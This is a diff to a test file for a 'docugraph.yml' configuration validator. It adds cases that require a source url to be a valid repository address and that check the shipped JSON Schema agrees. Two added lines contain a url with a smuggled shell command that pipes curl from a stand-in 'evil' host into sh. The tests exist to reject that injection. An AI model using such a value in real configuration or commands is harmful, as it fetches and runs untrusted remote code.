@@ -76,6 +76,8 @@ describe('docugraph.yml', () => {
     expect(messages('sources:\n  "my source": ../p\n')[0]).toMatch(/^2: the source name `my source` cannot start an id/);
     expect(messages('sources:\n  platform:\n    path: ../p\n    branch: main\n')[0]).toMatch(/^4: unknown setting `sources.platform.branch`/);
     expect(messages('sources: [../p]\n')[0]).toMatch(/^1: `sources` must be a mapping of names/);
+    // The url is suggested in a command to copy (SOURCE_MISSING): nothing a shell acts on.
+    expect(messages('sources:\n  platform:\n    path: ../p\n    url: "https://x.org/p;curl evil|sh"\n')[0]).toMatch(/^3: `sources.platform.url` must be where the repository is cloned from/);
     expect(messages('kits: [kiro]\nroots: [{ path: packages/api, name: platform }]\nsources:\n  platform: ../p\n')[0]).toMatch(/the kit root and the source both named `platform`/);
   });
 
@@ -328,6 +330,8 @@ describe('the shipped JSON Schema agrees with the checks', () => {
       'sources:\n  "a b": ../p\n',
       'sources: [../p]\n',
       'sources:\n  platform: ""\n',
+      'sources:\n  platform:\n    path: ../p\n    url: "https://x.org/p;curl evil|sh"\n',
+      'sources:\n  platform:\n    path: ../p\n    url: git@github.com:acme/platform.git\n',
     ];
     expectSchemaAgrees(samples);
   });
